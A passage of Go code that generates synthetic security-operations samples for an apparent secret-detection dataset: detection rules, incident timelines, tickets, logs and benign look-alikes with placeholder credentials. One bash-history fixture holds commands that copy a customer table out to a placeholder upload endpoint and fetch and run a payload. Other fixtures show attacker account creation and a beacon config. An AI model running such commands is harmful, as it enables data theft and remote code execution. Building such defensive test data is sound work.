`, V{"_a": g.sopLAN(), "_b": g.sopLAN(), "x": g.s(alLowNum, 6) + "-ro-" + g.digits(4)}, "1.3.6.1.6.3.1.1.4.1.0")
}

// ---- detection content: Sigma, YARA, searches, unit tests ----

func (g *G) sopRules() {
	g.add("secops/sigma-rule-benign-patterns", `
title: Credential in Command Line via Curl Basic Auth
id: «_id»
status: experimental
description: Detects curl invocations that pass a user:password pair with -u
references:
    - https://attack.mitre.org/techniques/T1552/
author: ACME SOC
date: 2024-09-12
tags:
    - attack.credential-access
    - attack.t1552.001
logsource:
    category: process_creation
    product: linux
detection:
    selection:
        Image|endswith: '/curl'
        CommandLine|re: '\s-u\s+[^\s:]+:[^\s]+'
    filter_placeholder:
        CommandLine|contains:
            - ':$'
            - ':${'
    condition: selection and not filter_placeholder
level: medium
`, V{"_id": g.uuid()}, "CommandLine|re: '\\s-u\\s+[^\\s:]+:[^\\s]+'", "attack.t1552.001")

	g.add("secops/yara-secret-patterns-benign", `
rule ACME_Hardcoded_Cloud_Keys
{
    meta:
        author = "ACME SOC"
        description = "Finds cloud credentials in scripts left on file shares"
        date = "2024-09-12"
        hash = "«_h»"
    strings:
        $aws = /AKIA[0-9A-Z]{16}/ ascii wide
        $gh  = /gh[pousr]_[A-Za-z0-9]{36}/ ascii
        $slack = "hooks.slack.com/services/" ascii
        $pk  = "-----BEGIN RSA PRIVATE KEY-----"
        $example = "AKIAIOSFODNN7EXAMPLE"
    condition:
        filesize < 2MB and any of ($aws, $gh, $slack, $pk) and not $example
}
`, V{"_h": g.sopSHA256()}, "/gh[pousr]_[A-Za-z0-9]{36}/", "AKIAIOSFODNN7EXAMPLE")

	g.add("secops/yara-malware-strings-benign-iocs", `
rule ACME_Stealer_Loader_Sep24
{
    meta:
        description = "Loader dropped by the Invoice_0923 campaign (IR-2291)"
        sha256_1 = "«_h1»"
        sha256_2 = "«_h2»"
    strings:
        $mutex = "Global\\«_mutex»" wide
        $ua = "Mozilla/5.0 (Windows NT 10.0; Win64; x64; rv:109.0) Gecko/20100101 Firefox/118.0" ascii
        $c2 = "«_d»" ascii
        $xor = { 8B 45 ?? 35 «_xor» 89 45 ?? }
    condition:
        uint16(0) == 0x5A4D and 3 of them
}
`, V{"_h1": g.sopSHA256(), "_h2": g.sopSHA256(), "_mutex": g.uuid(), "_d": g.sopDomain(), "_xor": strings.ToUpper(g.hex(2) + " " + g.hex(2) + " " + g.hex(2) + " " + g.hex(2))}, "Invoice_0923 campaign (IR-2291)")

	g.add("secops/detection-unit-test-fixture-real-token", `
# tests/test_secret_in_cmdline.py
# Regression test for DET-114. The positive sample is the exact command line from IR-2291
# (copied from the Falcon event so the test matches production data).
POSITIVE = [
    'git clone https://oauth2:«a»@gitlab.acme.io/payments/ledger.git',
    'curl -H "Authorization: token «b»" https://api.github.com/repos/acme/infra/contents/prod.tfvars',
]
NEGATIVE = [
    'git clone https://gitlab.acme.io/payments/ledger.git',
    'curl -H "Authorization: token $GITHUB_TOKEN" https://api.github.com/user',
]

def test_rule_matches():
    for cmd in POSITIVE:
        assert rule.matches({"CommandLine": cmd})
`, V{"a": g.glpat(), "b": g.ghp()}, "DET-114", "Authorization: token $GITHUB_TOKEN")

	g.add("secops/gitleaks-custom-rule-allowlist", `
# .gitleaks.toml
title = "acme gitleaks config"
[extend]
useDefault = true

[[rules]]
id = "acme-internal-api-key"
description = "ACME internal API key"
regex = '''acme_(live|test)_[0-9a-zA-Z]{32}'''
keywords = ["acme_live_", "acme_test_"]

[allowlist]
description = "documented test fixtures"
regexes = ['''acme_test_0{32}''']
paths = ['''docs/examples/.*''']
commits = ["«_c»"]
`, V{"_c": g.gitSHA()}, "acme_(live|test)_[0-9a-zA-Z]{32}", "acme-internal-api-key")

	g.add("secops/splunk-savedsearch-with-hardcoded-lookup-token", `
# savedsearches.conf, ACME_ES app
[ACME - Canary AWS Key Used]
search = index=aws sourcetype=aws:cloudtrail userIdentity.accessKeyId="«=kid»" | stats count by sourceIPAddress, eventName, userAgent
cron_schedule = */5 * * * *
action.webhook = 1
action.webhook.param.url = https://acme-soc.tines.com/webhook/«_p»/«a»
alert.severity = 5
`, V{"=kid": g.awsID(), "_p": g.hex(32), "a": g.hex(32)}, "[ACME - Canary AWS Key Used]", "sourcetype=aws:cloudtrail")

	g.add("secops/kql-analytics-rule-benign", `
id: «_id»
name: Sign-in from Tor exit with MFA fatigue
kind: Scheduled
severity: High
queryFrequency: 15m
queryPeriod: 1h
query: |
  let tor = externaldata(ip:string)[@"https://check.torproject.org/torbulkexitlist"] with (format="txt");
  SigninLogs
  | where ResultType == 500121
  | where IPAddress in (tor)
  | summarize Denials=count() by UserPrincipalName, IPAddress, bin(TimeGenerated, 10m)
  | where Denials > 5
entityMappings:
  - entityType: Account
    fieldMappings: [{identifier: FullName, columnName: UserPrincipalName}]
version: 1.0.3
`, V{"_id": g.uuid()}, "check.torproject.org/torbulkexitlist", "ResultType == 500121")

	g.add("secops/elastic-rule-toml-benign", `
[metadata]
creation_date = "2024/09/12"
maturity = "production"
updated_date = "2024/09/12"

[rule]
author = ["ACME SOC"]
description = "Detects LSASS access via comsvcs.dll MiniDump."
rule_id = "«_id»"
risk_score = 73
severity = "high"
type = "eql"
query = '''
process where host.os.type == "windows" and event.type == "start" and
  process.name : "rundll32.exe" and process.args : ("*comsvcs*", "*MiniDump*", "*#24*")
'''

[[rule.threat]]
framework = "MITRE ATT&CK"
[rule.threat.technique]
id = "T1003"
`, V{"_id": g.uuid()}, "process.args : (\"*comsvcs*\", \"*MiniDump*\", \"*#24*\")")

	g.add("secops/sigma-test-sample-event-leaked-pw", `
# tests/samples/proc_creation_win_net_user_add.json (captured from the lab DC, 2024-09-11)
{
  "EventID": 4688,
  "Computer": "LAB-DC01.lab.acme.internal",
  "NewProcessName": "C:\\Windows\\System32\\net.exe",
  "CommandLine": "net user svc_sql «a» /add /domain",
  "SubjectUserName": "adm-ana",
  "ProcessId": "0x1a2c"
}
`, V{"a": g.pw()}, "LAB-DC01.lab.acme.internal", "svc_sql")

	g.add("secops/semgrep-rule-benign", `
rules:
  - id: hardcoded-splunk-hec-token
    languages: [python, javascript, yaml]
    severity: ERROR
    message: Splunk HEC token hard-coded; load it from Vault (secret/data/siem/hec) instead.
    patterns:
      - pattern-regex: (?i)splunk[^\n]{0,40}[0-9a-f]{8}-[0-9a-f]{4}-[0-9a-f]{4}-[0-9a-f]{4}-[0-9a-f]{12}
      - pattern-not-regex: 00000000-0000-0000-0000-000000000000
    metadata:
      cwe: "CWE-798: Use of Hard-coded Credentials"
`, nil, "hardcoded-splunk-hec-token", "secret/data/siem/hec", "00000000-0000-0000-0000-000000000000")

	g.add("secops/detection-ci-workflow-secrets", `
# .github/workflows/deploy-detections.yml
jobs:
  deploy:
    runs-on: ubuntu-latest
    env:
      SPLUNK_HOST: sh01.siem.acme.internal
      SPLUNK_TOKEN: ${{ secrets.SPLUNK_TOKEN }}
      ELASTIC_API_KEY: «a»
    steps:
      - uses: actions/checkout@v4
      - run: contentctl build --path . && contentctl deploy_acs --splunk-api-token "$SPLUNK_TOKEN"
`, V{"a": g.esAPIKey()}, "${{ secrets.SPLUNK_TOKEN }}", "contentctl build --path .")
}

// ---- incident reports, timelines, tickets and chats ----

func (g *G) sopIncident() {
	g.add("secops/ir-timeline-markdown-leaked-aws", `
## IR-2291 Timeline (all times UTC)

| Time  | Source      | Event |
|-------|-------------|-------|
| 02:14 | GitHub      | Commit «_c» to acme/infra-scratch (public) adds .env with AWS_ACCESS_KEY_ID=«a» and AWS_SECRET_ACCESS_KEY=«b» |
| 02:19 | CloudTrail  | GetCallerIdentity from «_ip» (Tor exit), user agent aws-cli/2.15.30 |
| 02:31 | GuardDuty   | «_gd» UnauthorizedAccess:IAMUser/TorIPCaller |
| 02:47 | SOC         | Key deactivated, IR-2291 opened by on-call (ana) |
`, V{"_c": g.gitSHA(), "a": g.awsID(), "b": g.awsSecret(), "_ip": g.sopIP(), "_gd": g.hex(32)}, "UnauthorizedAccess:IAMUser/TorIPCaller", "aws-cli/2.15.30")

	g.sopAdd("secops/ir-slack-is-this-still-live", `
[09:12] ana: found this in the pastebin dump from the stealer log, is it ours?
[09:12] ana: ˋ«a»ˋ
[09:13] marc: yep that's the payments Stripe key, rotating now
[09:20] marc: rotated, old one rolled with 0h expiry. new one is in Vault at secret/data/payments/stripe
[09:21] ana: ty, adding to IR-2294. masked in the ticket as sk_live_…«=last»
`, V{"a": g.skLive(), "=last": g.hex(4)}, "secret/data/payments/stripe", "IR-2294")

	g.add("secops/ir-jira-rotation-ticket", `
SEC-4411 Rotate svc_backup after credential exposure
Reporter: Ana Ortiz    Priority: Highest    Labels: incident, IR-2295

Description:
The svc_backup password was in the Veeam job export attached to SR-88123 (shared with the vendor).
Old password: «a»
Steps: reset in AD, update Veeam credential manager, update /etc/fstab on bkp-nas-01, confirm jobs.

Comment (marc): Reset done. Temp password for the vendor call is «b», expires 18:00 UTC.
`, V{"a": g.pw(), "b": g.pw()}, "SEC-4411", "bkp-nas-01")

	g.add("secops/ir-thehive-observable-export", `
$ curl -s -H "Authorization: Bearer «k»" https://thehive.soc.acme.io/api/v1/query -d '{"query":[{"_name":"getCase","idOrName":"~«_case»"},{"_name":"observables"}]}' | jq -c '.[] | {dataType, data, message}'
{"dataType":"ip","data":"«_ip»","message":"attacker source"}
{"dataType":"hash","data":"«_h»","message":"dropper"}
{"dataType":"other","data":"«a»","message":"password used by the attacker for the created local admin"}
{"dataType":"url","data":"https://«_d»/gate.php","message":"exfil endpoint"}
`, V{"k": g.an(32), "_case": g.digits(8), "_ip": g.sopIP(), "_h": g.sopSHA256(), "a": g.pwStrong(), "_d": g.sopDomain()}, "password used by the attacker for the created local admin")

	g.add("secops/github-secret-scanning-webhook-alert", `
POST /hooks/github-secret-scanning HTTP/1.1
X-GitHub-Event: secret_scanning_alert
X-GitHub-Delivery: «_del»
X-Hub-Signature-256: sha256=«_sig»

{"action":"created","alert":{"number":«=n»,"secret_type":"slack_incoming_webhook_url","secret_type_display_name":"Slack Incoming Webhook URL","secret":"https://hooks.slack.com/services/«_t»/«_b»/«a»","state":"open","html_url":"https://github.com/acme/marketing-site/security/secret-scanning/«=n»"},"repository":{"full_name":"acme/marketing-site"}}
`, V{"_del": g.uuid(), "_sig": g.hex(64), "=n": fmt.Sprint(2 + g.r.IntN(90)), "_t": g.slackT(), "_b": g.slackB(), "a": g.an(24)}, "secret_scanning_alert", "acme/marketing-site")

	g.add("secops/gitguardian-incident-export-benign", `
$ ggshield api-status
API URL: https://api.gitguardian.com
Status: healthy
$ curl -s -H "Authorization: Token $GITGUARDIAN_API_KEY" "https://api.gitguardian.com/v1/incidents/secrets/«_id»" | jq '{id, detector: .detector.display_name, secret_hash, validity, status, occurrences_count}'
{
  "id": «_id»,
  "detector": "AWS Keys",
  "secret_hash": "«_hash»",
  "validity": "invalid",
  "status": "RESOLVED",
  "occurrences_count": 3
}
`, V{"_id": g.digits(8), "_hash": g.hex(64)}, "$GITGUARDIAN_API_KEY")

	g.add("secops/ir-report-appendix-credentials", `
Appendix C - Credentials observed during the intrusion

C.1 The actor created the local account "support_adm" on FIN-WS-0142 with the command
    net user support_adm «a» /add
C.2 The Cobalt Strike beacon config extracted with 1768.py contained:
    0x0008 server,get-uri            «_d»,/jquery-3.3.1.min.js
    0x000d spawnto_x86               %windir%\syswow64\dllhost.exe
    0x0025 license-id                «_lic»
    0x0036 HostHeader                «_d»
C.3 The stealer uploaded browser data to a Telegram bot; its token was «b» (reported to Telegram, revoked).
`, V{"a": g.pw(), "_d": g.sopDomain(), "_lic": g.digits(9), "b": g.telegram()}, "support_adm", "spawnto_x86")

	g.add("secops/ir-email-to-vendor-temp-creds", `
From: Ana Ortiz <ana@acme.io>
To: dfir-team@responder.example
Subject: IR-2291 - access for your analysts

Hi team,

Velociraptor GUI: https://velo.soc.acme.io (user: ext_dfir_1)
Temporary password: «a»
Splunk read-only token for index=edr, index=aws (expires Friday):
«b»

Please don't forward. Call me on +1 415 555 0142 if anything breaks.
Ana
`, V{"a": g.pw(), "b": g.sopSplunkJWT("ext_dfir_1", "ir-2291")}, "ext_dfir_1", "dfir-team@responder.example")

	g.add("secops/ir-cloudtrail-createaccesskey-response", `
$ jq '.Records[] | select(.eventName=="CreateAccessKey")' 2024-09-12-cloudtrail.json
{
  "eventTime": "2024-09-12T02:33:41Z",
  "eventSource": "iam.amazonaws.com",
  "eventName": "CreateAccessKey",
  "sourceIPAddress": "«_ip»",
  "userIdentity": {"type": "IAMUser", "userName": "ci-deployer", "accessKeyId": "«=kid»"},
  "requestParameters": {"userName": "backup-sync"},
  "responseElements": {"accessKey": {"accessKeyId": "«=nk»", "status": "Active", "userName": "backup-sync", "createDate": "Sep 12, 2024 2:33:41 AM"}},
  "eventID": "«_ev»"
}
`, V{"_ip": g.sopIP(), "=kid": g.awsID(), "=nk": g.awsID(), "_ev": g.uuid()}, "backup-sync", "iam.amazonaws.com")

	g.add("secops/ir-bash-history-on-compromised-host", `
$ sudo cat /home/deploy/.bash_history | tail -8
cd /opt/app
cat .env
export PGPASSWORD='«a»'
psql -h db-primary.prod.acme.internal -U app -c '\copy customers to /tmp/c.csv csv header'
curl -F "file=@/tmp/c.csv" https://«_d»/up.php
history -c
wget -q http://«_ip»/k -O /tmp/.k && chmod +x /tmp/.k && /tmp/.k
rm -f /tmp/c.csv
`, V{"a": g.pw(), "_d": g.sopDomain(), "_ip": g.sopIP()}, "db-primary.prod.acme.internal")

	g.add("secops/ir-postmortem-masked-benign", `
# Post-incident review: IR-2291 (leaked AWS key)

Summary: an access key for ci-deployer (AKIA…«=k») was committed to a public repo and used from Tor
for 33 minutes. The key was deactivated at 02:47 UTC and deleted at 03:10 UTC.

Affected secrets (all rotated; values intentionally not reproduced here):
- AWS access key AKIA************«=k» (ci-deployer)
- GitHub fine-grained PAT github_pat_11****…**** (infra-bot)
- Slack webhook for #deploys (URL redacted)
`, V{"=k": g.s(alAWS, 4)}, "AKIA************", "values intentionally not reproduced here", "github_pat_11****…****")

	g.add("secops/ir-stealer-log-excerpt", `
$ cat "Passwords.txt" | grep -A3 acme   # from the RedLine log the TI vendor sent us
URL: https://acme.okta.com/login/login.htm
Username: j.park@acme.io
Password: «a»
Application: Google_[Chrome]_Default
===============
URL: https://sh01.siem.acme.internal:8000/en-US/account/login
Username: jpark_adm
Password: «b»
Application: Google_[Chrome]_Default
`, V{"a": g.pw(), "b": g.pw()}, "j.park@acme.io", "jpark_adm")

	g.add("secops/ir-memory-strings-bearer", `
$ strings -el lsass_svc.dmp | grep -iE 'bearer|x-api-key' | sort -u | head -4
Authorization: Bearer «a»
X-Api-Key: «b»
Authorization: Bearer {token}
x-api-key header missing
`, V{"a": g.sopJWT("RS256", fmt.Sprintf(`{"aud":"https://graph.microsoft.com","iss":"https://sts.windows.net/%s/","upn":"adm-ana@acme.io","scp":"Directory.ReadWrite.All"}`, g.uuid())), "b": g.uuid()}, "Authorization: Bearer {token}", "x-api-key header missing")

	g.add("secops/ir-teams-handoff-message", `
Marc Dubois  10:42
handoff for the night shift:
- IR-2296 phishing: 14 users clicked, 3 entered creds (j.park, l.nguyen, s.ito) -> sessions revoked, passwords reset
- temp password for s.ito since she is on a plane: «a» (must change at next login)
- the Tines webhook for the O365 purge is https://acme-soc.tines.com/webhook/«_p»/«b», runs every 15 min
- MDE isolation still on FIN-WS-0142 (machine id «_mid»)
`, V{"a": g.pw(), "_p": g.hex(32), "b": g.hex(32), "_mid": g.hex(40)}, "IR-2296 phishing", "FIN-WS-0142")

	g.add("secops/ir-ransom-note-negotiation-benign", `
IR-2301 notes:
- Ransom note README_RESTORE.txt dropped on 41 hosts; victim ID in the note: «_vid»
- Tox ID of the actor: «_tox»
- Onion chat: http://«_onion».onion/chat/«_chat»
- BTC address in the note: bc1q«_btc»
Nothing here is ours to rotate; kept for the law enforcement report.
`, V{"_vid": g.hex(32), "_tox": strings.ToUpper(g.hex(76)), "_onion": g.s("abcdefghijklmnopqrstuvwxyz234567", 56), "_chat": g.hex(16), "_btc": g.s(alBech, 38)}, "README_RESTORE.txt")

	g.add("secops/ir-k8s-secret-decoded-during-triage", `
$ kubectl -n payments get secret ledger-db -o jsonpath='{.data}' | jq -r 'to_entries[] | "\(.key)=\(.value | @base64d)"'
DB_HOST=db-primary.prod.acme.internal
DB_USER=ledger
DB_PASSWORD=«a»
SPLUNK_HEC_TOKEN=«b»
# confirmed: the attacker's pod (ns payments, created 02:51) mounted this secret
`, V{"a": g.pwStrong(), "b": g.sopHEC()}, "the attacker's pod (ns payments, created 02:51)")

	g.add("secops/ir-okta-support-impersonation-log", `
{"eventType":"user.session.impersonation.grant","published":"2024-09-12T05:21:33.000Z","actor":{"id":"«_aid»","alternateId":"support@okta.com"},"target":[{"id":"«_uid»","alternateId":"adm-ana@acme.io"}],"client":{"ipAddress":"«_ip»"},"debugContext":{"debugData":{"requestId":"«_req»","dtHash":"«_dt»"}},"outcome":{"result":"SUCCESS"}}
`, V{"_aid": "00u" + g.an(17), "_uid": "00u" + g.an(17), "_ip": g.sopIP(), "_req": g.an(27), "_dt": g.hex(64)}, "user.session.impersonation.grant")
}

// ---- benign look-alikes ----

func (g *G) sopBenign() {
	g.add("secops/benign-ioc-csv-export", `
type,value,first_seen,source,confidence
sha256,«_h1»,2024-09-11,vt-hunting,high
sha1,«_s1»,2024-09-11,vt-hunting,high
md5,«_m1»,2024-09-11,sandbox,medium
ipv4,«_ip»,2024-09-10,abuseipdb,high
domain,«_d»,2024-09-10,urlscan,medium
ja3,«_j»,2024-09-10,zeek,low
`, V{"_h1": g.sopSHA256(), "_s1": g.sopSHA1(), "_m1": g.sopMD5(), "_ip": g.sopIP(), "_d": g.sopDomain(), "_j": g.sopMD5()}, "vt-hunting")

	g.add("secops/benign-falcon-host-list", `
$ falcon-hosts --filter "tags:'FalconGroupingTags/payments'" --fields device_id,hostname,cid,agent_version
device_id                         hostname         cid                               agent_version
«_d1»  pay-api-01       «_cid»  7.17.17005.0
«_d2»  pay-api-02       «_cid»  7.17.17005.0
«_d3»  pay-worker-01    «_cid»  7.16.18605.0
`, V{"_d1": g.hex(32), "_d2": g.hex(32), "_d3": g.hex(32), "_cid": g.hex(32)}, "FalconGroupingTags/payments")

	g.add("secops/benign-wazuh-alert-json", `
{"timestamp":"2024-09-12T08:02:11.412+0000","rule":{"level":10,"description":"sshd: brute force trying to get access to the system. Non existent user.","id":"5712","mitre":{"id":["T1110"]},"firedtimes":8},"agent":{"id":"«=aid»","name":"web-07","ip":"«_lip»"},"manager":{"name":"wazuh-manager"},"id":"«_id»","data":{"srcip":"«_ip»","srcuser":"oracle"},"location":"/var/log/auth.log"}
`, V{"=aid": fmt.Sprintf("%03d", 1+g.r.IntN(400)), "_lip": g.sopLAN(), "_id": fmt.Sprintf("%d.%d", 1726128131, g.r.IntN(9000000)), "_ip": g.sopIP()}, "sshd: brute force trying to get access to the system. Non existent user.")

	g.add("secops/benign-sentinel-incident-list", `
$ az sentinel incident list -g rg-sec-prod -w law-sentinel-prod --query "[?properties.status=='New'].{id:name, n:properties.incidentNumber, title:properties.title}" -o table
Id                                    N      Title
------------------------------------  -----  -------------------------------------------
«_a»  18211  Sign-in from Tor exit with MFA fatigue
«_b»  18214  Mass download by a single user
`, V{"_a": g.uuid(), "_b": g.uuid()}, "Mass download by a single user")

	g.add("secops/benign-splunk-hec-placeholders", `
# README for the HEC forwarder chart
Create a token in Settings > Data inputs > HTTP Event Collector, then:

    kubectl create secret generic splunk-hec --from-literal=token=<YOUR-HEC-TOKEN>
    helm install fwd ./chart --set splunk.tokenSecret=splunk-hec

The token looks like 12345678-1234-1234-1234-123456789012. Never put it in values.yaml.
`, nil, "<YOUR-HEC-TOKEN>", "12345678-1234-1234-1234-123456789012", "splunk.tokenSecret=splunk-hec")

	g.add("secops/benign-velociraptor-ca-cert-and-fingerprint", `
$ openssl x509 -in velo-ca.pem -noout -subject -fingerprint -sha256
subject=O = Velociraptor, CN = Velociraptor_ca
sha256 Fingerprint=«_fp»
$ cat velo-ca.pem
«_c»
`, V{"_fp": strings.ToUpper(strings.TrimSuffix(strings.Repeat(g.hex(2)+":", 32), ":")), "_c": g.certPEM().block()}, "CN = Velociraptor_ca")

	g.add("secops/benign-misp-gpg-public-key", `
$ curl -s https://misp.soc.acme.io/gpg.asc
-----BEGIN PGP PUBLIC KEY BLOCK-----

«_k»
-----END PGP PUBLIC KEY BLOCK-----
`, V{"_k": wrap("mQINBG"+g.s(alB64, 700), 64) + "\n=" + g.s(alB64, 4)})

	g.add("secops/benign-env-refs-soar-config", `
integrations:
  crowdstrike:
    client_id: ${FALCON_CLIENT_ID}
    client_secret: ${FALCON_CLIENT_SECRET}
  virustotal:
    api_key: "{{ vault 'secret/data/soar/vt' 'api_key' }}"
  splunk:
    token: !env SPLUNK_TOKEN
  misp:
    key: "<set in MISP_KEY>"
`, nil, "${FALCON_CLIENT_SECRET}", "{{ vault 'secret/data/soar/vt' 'api_key' }}", "!env SPLUNK_TOKEN", "<set in MISP_KEY>")

	g.add("secops/benign-guardduty-finding", `
{
  "SchemaVersion": "2.0",
  "AccountId": "«_acct»",
  "Id": "«_id»",
  "Type": "CryptoCurrency:EC2/BitcoinTool.B!DNS",
  "Resource": {"ResourceType": "Instance", "InstanceDetails": {"InstanceId": "i-«_i»", "ImageId": "ami-«_ami»"}},
  "Service": {"Action": {"DnsRequestAction": {"Domain": "pool.minexmr.com", "Protocol": "UDP", "Blocked": false}}, "DetectorId": "«_det»", "Count": 14},
  "Severity": 8
}
`, V{"_acct": g.digits(12), "_id": g.hex(32), "_i": g.hex(17), "_ami": g.hex(17), "_det": g.hex(32)}, "CryptoCurrency:EC2/BitcoinTool.B!DNS")

	g.add("secops/benign-detect-regex-library", `
# soc/lib/patterns.py - used by the DLP and the log scrubber
PATTERNS = {
    "aws_access_key_id": r"(?<![A-Z0-9])(AKIA|ASIA)[A-Z0-9]{16}(?![A-Z0-9])",
    "github_pat": r"\bgh[pousr]_[A-Za-z0-9]{36}\b",
    "splunk_hec": r"(?i)splunk\s+[0-9a-f]{8}(-[0-9a-f]{4}){3}-[0-9a-f]{12}",
    "crowdstrike_secret": r"\b[A-Za-z0-9]{40}\b",
    "vt_api_key": r"\b[0-9a-f]{64}\b",  # also matches every sha256, so only near 'x-apikey'
}
`, nil, "(AKIA|ASIA)[A-Z0-9]{16}", "\\bgh[pousr]_[A-Za-z0-9]{36}\\b", "also matches every sha256")

	g.add("secops/benign-suricata-stats-and-sids", `
$ sudo suricatasc -c "ruleset-stats"
{"message": [{"id": 0, "rules_loaded": 48213, "rules_failed": 2, "rules_skipped": 0}], "return": "OK"}
$ grep -c '' /var/lib/suricata/rules/suricata.rules
48215
$ grep 'sid:2046266' /var/lib/suricata/rules/suricata.rules | cut -c1-140
alert tls $HOME_NET any -> $EXTERNAL_NET any (msg:"ET MALWARE Observed Lumma Stealer Domain in TLS SNI (
`, nil, "sid:2046266", "ET MALWARE Observed Lumma Stealer Domain")

	g.add("secops/benign-ssh-host-keys-in-ir-notes", `
IR-2291: fingerprints of the attacker-added authorized_keys entry on bastion-01
ssh-keygen -lf <(sudo grep -v acme /home/deploy/.ssh/authorized_keys)
256 «_fp» root@kali (ED25519)
The public key itself, for the block list:
«_pub» root@kali
`, V{"_fp": "SHA256:" + strings.TrimRight(g.b64(32), "="), "_pub": func() string { _, p := g.sshEd25519("root@kali"); return p }()}, "root@kali (ED25519)")

	g.add("secops/benign-tenable-plugin-output", `
Plugin ID: 10863  SSL Certificate Information
Host: «_ip» (vpn.acme.io)  Port: 443/tcp
Subject Name:
  Common Name: vpn.acme.io
Serial Number: «_ser»
Signature: «_sig»
Public Key Info:
  Algorithm: RSA Encryption
  Key Length: 2048 bits
  Public Key: «_pk»
  Exponent: 01 00 01
`, V{"_ip": g.sopIP(), "_ser": strings.ToUpper(g.hex(2) + " " + g.hex(2) + " " + g.hex(2) + " " + g.hex(2) + " " + g.hex(2) + " " + g.hex(2)), "_sig": strings.ToUpper(strings.TrimSpace(strings.Repeat(g.hex(2)+" ", 16))), "_pk": strings.ToUpper(strings.TrimSpace(strings.Repeat(g.hex(2)+" ", 16)))}, "SSL Certificate Information")

	g.add("secops/benign-sysmon-event-hashes", `
<Event><System><EventID>1</EventID><Computer>FIN-WS-0142.corp.acme.io</Computer></System>
<EventData>
<Data Name="ProcessGuid">{«_pg»}</Data>
<Data Name="Image">C:\Users\Public\svchost.exe</Data>
<Data Name="CommandLine">"C:\Users\Public\svchost.exe" -k netsvcs -p «=p»</Data>
<Data Name="Hashes">MD5=«_m»,SHA256=«_s»,IMPHASH=«_i»</Data>
<Data Name="ParentImage">C:\Windows\System32\WindowsPowerShell\v1.0\powershell.exe</Data>
</EventData></Event>
`, V{"_pg": strings.ToUpper(g.uuid()), "=p": fmt.Sprint(1000 + g.r.IntN(9000)), "_m": strings.ToUpper(g.sopMD5()), "_s": strings.ToUpper(g.sopSHA256()), "_i": strings.ToUpper(g.sopMD5())}, "C:\\Users\\Public\\svchost.exe")

	g.add("secops/benign-canary-incident-ids", `
$ curl -s "https://«_c».canary.tools/api/v1/incidents/all?auth_token=$CANARY_AUTH_TOKEN&limit=2" | jq -c '.incidents[] | {id, node: .description.node_id, src: .description.src_host}'
{"id":"incident:canarytoken:«_i1»::1726128131","node":"«_n»","src":"«_ip»"}
{"id":"incident:smbfileopen:«_i2»::1726130044","node":"«_n2»","src":"«_lip»"}
`, V{"_c": g.hex(8), "_i1": g.hex(24), "_n": g.hex(16), "_ip": g.sopIP(), "_i2": g.hex(24), "_n2": g.hex(16), "_lip": g.sopLAN()}, "$CANARY_AUTH_TOKEN")
}
